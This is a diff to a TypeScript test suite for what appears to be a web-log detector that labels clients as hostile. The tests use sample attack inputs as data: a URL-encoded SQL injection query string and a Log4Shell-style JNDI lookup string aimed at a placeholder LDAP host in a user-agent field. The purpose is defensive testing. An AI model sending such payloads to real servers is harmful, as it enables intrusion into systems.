@@ -38,7 +38,8 @@ describe('ClientJudge', () => {
   it('labels a client hostile for its attack payloads, as scan does, and emits it once', () => {
     const j = judge();
     const payload = (i: number) => plain(record({ clientIp: '203.0.113.9', timeMs: T0 + i * 1000, path: '/search', query: `q=%27+OR+1%3D1--${i}` }));
-    expect(j.judge([payload(0)])).toEqual([]);
+    // A page view first: one payload among two requests is not enough (client-context.ts).
+    expect(j.judge([plain(record({ clientIp: '203.0.113.9', timeMs: T0 - 1000, path: '/' })), payload(0)])).toEqual([]);
     const [finding] = j.judge([payload(1)]);
     expect(finding?.labels).toEqual(['hostile']);
     // rank/client-rank.ts: 10 points for hostile; no z-scores (fewer than MIN_POPULATION clients).
@@ -47,6 +48,12 @@ describe('ClientJudge', () => {
     expect(finding?.reasons.at(-1)).toMatch(/^tags: sql_injection ×2/);
     // Still hostile, nothing new: no second finding.
     expect(j.judge([payload(2)])).toEqual([]);
+  });
+
+  it('labels a client hostile whose one request is an attack payload', () => {
+    const [finding] = judge().judge([plain(record({ clientIp: '203.0.113.10', timeMs: T0, path: '/', userAgent: '${jndi:ldap://x/a}' }))]);
+    expect(finding?.labels).toEqual(['hostile']);
+    expect(finding?.reasons[0]).toBe('hostile: 1 request(s) with attack payloads');
   });
 
   it('labels one URI requested 50 times in a minute as hammering', () => {
